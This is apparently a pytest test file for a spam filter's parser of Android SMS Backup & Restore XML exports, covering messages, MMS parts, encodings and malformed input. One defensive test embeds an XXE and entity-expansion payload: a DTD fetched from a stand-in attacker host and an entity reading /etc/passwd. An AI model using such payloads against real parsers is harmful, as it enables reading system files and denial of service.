"""XML of SMS Backup & Restore: what the app writes of SMS and MMS, and what may have been done to it."""

import base64
import tracemalloc
from collections.abc import Iterator
from typing import BinaryIO, cast

import pytest

from spamfilter.hookspecs import ReadOptions
from spamfilter.readers.exports.android.backup import read_backup
from tests.spamfilter.readers.exports.conftest import Export, Known

HEAD = """<?xml version='1.0' encoding='UTF-8' standalone='yes' ?>
<!--File Created By SMS Backup & Restore v10.15.002 on 17/11/2021 00:49:45-->
<?xml-stylesheet type="text/xsl" href="sms.xsl"?>
<smses count="9" backup_set="4f0c" backup_date="1700000000000" type="full">
"""
FOOT = "</smses>\n"


def sms(body: str, kind: int = 1, name: str = "Ann", more: str = "") -> str:
    return (
        f'  <sms protocol="0" address="+15550100" date="1700000000001" type="{kind}" subject="null" '
        f'body="{body}" toa="null" sc_toa="null" service_center="null" read="1" status="-1" locked="0" '
        f'{more}readable_date="1 Jan 2024" contact_name="{name}" />\n'
    )


def mms(parts: str, box: int = 1, addrs: str = "", more: str = "", name: str = "Ann", to: str = "+1") -> str:
    return (
        f'  <mms date="1700000000003" msg_box="{box}" address="{to}" m_type="132" {more}'
        f'ct_t="application/vnd.wap.multipart.related" contact_name="{name}">\n    <parts>\n{parts}'
        f"    </parts>\n    <addrs>{addrs}</addrs>\n  </mms>\n"
    )


def text(words: str, kind: str = "text/plain") -> str:
    return f'      <part seq="0" ct="{kind}" name="null" chset="106" cl="text.txt" text="{words}" />\n'


def backup(*messages: str) -> bytes:
    return (HEAD + "".join(messages) + FOOT).encode()


def test_what_was_received_and_what_was_sent(export: Export) -> None:
    read = export(backup(sms("lunch?"), sms("yes", 2), sms("WIN", name="(Unknown)")), "sms.xml")
    shown = [(m.number, m.text, m.sender, m.conversation, m.sent) for m in read.messages]
    assert shown == [
        (1, "lunch?", "Ann", "Ann", False),
        (2, "yes", "", "Ann", True),
        (3, "WIN", "+15550100", "+15550100", False),
    ]
    assert {(m.date, m.raw, m.source) for m in read.messages} == {("2023-11-14T22:13:20Z", b"", "sms.xml")}
    assert read.notices == []


def test_drafts_and_the_outbox_are_counted(export: Export) -> None:
    read = export(backup(*[sms("x", kind) for kind in (3, 4, 5, 6)], sms("hi"), mms(text("y"), 3)), "s.xml")
    assert read.texts == ["hi"]
    assert read.notices == ["s.xml: 5 messages never sent (draft or outbox) were passed over"]


@pytest.mark.parametrize(
    ("written", "said"),
    [
        ("8 &#55357;&#56842; ok", "8 😊 ok"),  # the two halves of an emoji
        ("&#x1F60A;&#128522;", "😊😊"),
        ("one&#10;two&#13;&#10;three", "one\ntwo\nthree"),
        ("a&#0;b&#8;c&#65535;d&#xFFFE;e", "abcde"),
        ("half &#55357; a pair &#56842;", "half  a pair "),
        ("&#99999999;&#x7FFFFFFF;", ""),
        ("Tom &amp; &lt;b&gt; &quot;q&quot; &apos;s&apos;", "Tom & <b> \"q\" 's'"),
        ("&amp;lt; is once", "&lt; is once"),
        ("&unknown; &#; &#x; &", "&unknown; &#; &#x; &"),
        ("1 > 0 and it's", "1 > 0 and it's"),
        ("caf\u00e9 \u2013 \u20ac", "café – €"),
        ("null", "null"),
    ],
)
def test_references_are_the_characters_they_name(export: Export, written: str, said: str) -> None:
    assert export(backup(sms("first"), sms(written + "|")), "s.xml").texts[1] == said + "|"


def test_the_order_and_the_quotes_of_attributes_do_not_matter(export: Export) -> None:
    one = "<sms contact_name='O\"Neil' type='1'\n\tbody = \"it's\" date=\"1700000000001\" address='7'></sms>"
    (message,) = export(backup(one), "s.xml").messages
    assert (message.text, message.sender) == ("it's", 'O"Neil')


def test_the_text_of_an_mms_is_that_of_its_plain_parts(export: Export) -> None:
    parts = text("&lt;smil&gt;", "application/smil") + text("one") + text("null", "image/png") + text("two")
    (message,) = export(backup(mms(parts)), "s.xml").messages
    assert (message.text, message.sender, message.conversation) == ("one\ntwo", "Ann", "Ann")
    assert message.date == "2023-11-14T22:13:20Z"


def test_a_subject_is_the_text_of_an_mms_without_one(export: Export) -> None:
    picture = text("null", "image/png")
    alone, both, none = export(
        backup(
            mms(
                picture, more='sub="Caf\u00c3\u00a9" '
            ),  # the bytes of UTF-8 as Latin-1, as Android keeps them
            mms(text("hello"), more='sub="WIN" '),
            mms(text("hi"), more='sub="null" '),
            mms(picture, more='sub="null" '),
        ),
        "s.xml",
    ).messages
    assert (alone.text, alone.subject, alone.readings) == ("Café", "Café", ())
    assert (both.text, both.subject, both.readings[0].text) == ("hello", "WIN", "WIN\n\nhello")
    assert (none.text, none.subject, none.readings) == ("hi", "", ())


def test_an_mms_without_text_is_counted(export: Export) -> None:
    read = export(backup(sms("hi"), mms(text("null", "image/png")), sms("")), "s.xml")
    assert read.texts == ["hi"]
    assert read.notices == ["s.xml: 2 messages without text were passed over"]


@pytest.mark.parametrize("name", ["Joe Blow, Susie Glow", "(Unknown)", "Joe, Jr., Susie"])
def test_a_group_is_named_by_its_people(export: Export, name: str) -> None:
    addrs = (
        '<addr address="+18885554321" type="137" charset="106" />'
        '<addr address="+18885551234" type="151" charset="106" />'
        '<addr address="+441234567890" type="151" charset="106" />'
    )
    to = "+18885551234~+18885554321"
    known = name == "Joe Blow, Susie Glow"
    received, sent = export(
        backup(mms(text("hi"), 1, addrs, "", name, to), mms(text("yo"), 2, "", "", name, to)), "s.xml"
    ).messages
    group = name if known else "+18885551234, +18885554321"
    assert (received.conversation, sent.conversation) == (group, group)
    assert (received.sender, sent.sender) == ("Susie Glow" if known else "+18885554321", "")
    assert (received.sent, sent.sent) == (False, True)


def test_addresses_tell_the_conversation_where_the_mms_does_not(export: Export) -> None:
    addrs = '<addr address="insert-address-token" type="137" /><addr address="+7" type="151" />'
    sent, received = export(
        backup(
            mms(text("a"), 2, addrs, "", "null", "null"),
            mms(text("b"), 1, '<addr address="+7" type="137" />', "", "null", "insert-address-token"),
        ),
        "s.xml",
    ).messages
    assert (sent.conversation, sent.sender) == ("+7", "")
    assert (received.conversation, received.sender) == ("+7", "+7")


def picture(size: int) -> str:
    return f'      <part seq="0" ct="image/jpeg" text="null" data="{"A" * size}" />\n'


@pytest.mark.parametrize("size", [100, 70_000, 300_000])
@pytest.mark.parametrize("step", [7, 1000, 1 << 16])
def test_a_picture_is_skipped(export: Export, size: int, step: int) -> None:
    data = backup(sms("before &#55357;&#56842;"), mms(picture(size) + text("look")), sms("after"))
    assert export(data, "s.xml", "sms-backup", step).texts == ["before 😊", "look", "after"]


class Long:
    """A backup with a picture of many megabytes, made while it is read."""

    def __init__(self, megabytes: int) -> None:
        self._pieces = self._make(megabytes)

    def _make(self, megabytes: int) -> Iterator[bytes]:
        yield HEAD.encode() + b'<mms date="1" msg_box="1" address="+1"><parts><part ct="image/png" data="'
        piece = base64.b64encode(bytes(3 << 14))
        for _ in range(megabytes * 16):
            yield piece
        yield b'" /><part ct="text/plain" text="look" /></parts></mms>' + FOOT.encode()

    def read(self, size: int) -> bytes:
        return next(self._pieces, b"")


def test_a_picture_costs_no_memory() -> None:
    tracemalloc.start()
    messages = list(read_backup(cast(BinaryIO, Long(30)), "s.xml", ReadOptions()))
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert [message.text for message in messages] == ["look"]
    assert peak < 3 << 20


def test_a_text_of_more_than_a_megabyte_is_cut_and_says_so(export: Export) -> None:
    long, short = export(backup(sms("x" * 3_000_000), sms("short")), "s.xml").messages
    assert (len(long.text) <= 1 << 20, long.notes) == (True, ("text over 1 MiB",))
    assert (short.text, short.notes) == ("short", ())
    (joined,) = export(backup(mms(text("y" * 700_000) * 3)), "s.xml").messages
    assert (len(joined.text), joined.notes) == (700_000, ("text over 1 MiB",))


@pytest.mark.parametrize("keep", [-1, -9, -12, -60])
def test_a_file_that_is_cut_off_gives_what_is_whole(export: Export, keep: int) -> None:
    data = backup(sms("one"), sms("two"))[:-1]
    read = export(data[:keep], "s.xml")
    assert read.texts == ["one", "two"][: 2 if keep > -10 else 1]
    assert read.error.startswith("s.xml is cut off")


def test_what_is_no_tag_is_an_error_at_its_place(export: Export) -> None:
    read = export(backup(sms("one"), "<sms body=7 />", sms("two")), "s.xml", "sms-backup")
    assert read.texts == ["one"]
    assert read.error == "s.xml is not the XML of an export: near ' body=7 />  <sms pro'; export it again"


def test_entities_and_document_types_do_nothing(export: Export) -> None:
    bomb = """<!DOCTYPE smses SYSTEM "http://evil.example/x.dtd" [
      <!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
      <!ENTITY xxe SYSTEM "file:///etc/passwd">]>"""
    data = backup(sms("&b; &xxe; hi")).replace(b"<smses", bomb.encode() + b"\n<smses")
    assert export(data, "s.xml", "sms-backup").texts == ["&b; &xxe; hi"]


def test_a_list_of_calls_is_refused_by_name(export: Export) -> None:
    data = b'<?xml version="1.0"?>\n<calls count="1">\n  <call number="1" duration="7" />\n</calls>\n'
    assert export(data, "calls.xml").error == (
        "calls.xml is a list of calls, which has no messages; name the backup of the messages"
    )


def test_other_xml_is_refused(export: Export) -> None:
    for data in (b"<html></html>", b"", b"no tag at all"):
        error = export(data, "a.xml", "sms-backup").error
        assert error == "a.xml is not XML of SMS Backup & Restore; name its format with --input"


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16", "utf-32"])
def test_the_byte_order_mark_tells_the_encoding(export: Export, encoding: str) -> None:
    assert export(backup(sms("caf\u00e9 \u4f60")).decode().encode(encoding), "s.xml").texts == ["café 你"]


def test_the_encoding_may_be_named(export: Export) -> None:
    data = backup(sms("\u0442\u0435\u0441\u0442")).decode().encode("cp1251")
    assert export(data, "s.xml", encoding="cp1251").texts == ["тест"]


def test_lines_that_a_stranger_wrote_are_no_backup(known: Known) -> None:
    whole = backup(sms("hi"))
    first = " ".join(whole.decode().split("\n"))
    cut = first[: first.index('toa="null"')]
    assert known(whole) == ["sms-backup"]
    assert known(whole[:-9]) == ["sms-backup"]
    for lines in (
        f"{first}\nSee you at eight\n",  # a message that is a backup, above others
        f"{cut}\nSee you at eight\n",
        f'{HEAD}<sms body="\nSee you at eight\n',  # what is below would be its value
        f"{HEAD}<!-- \nSee you at eight\n",
        f"See you\n{whole.decode()}",
        "<smses",
        "<smses> are you there?",
        "<sms>hi</sms>",
    ):
        assert known(lines.encode()) == [], lines
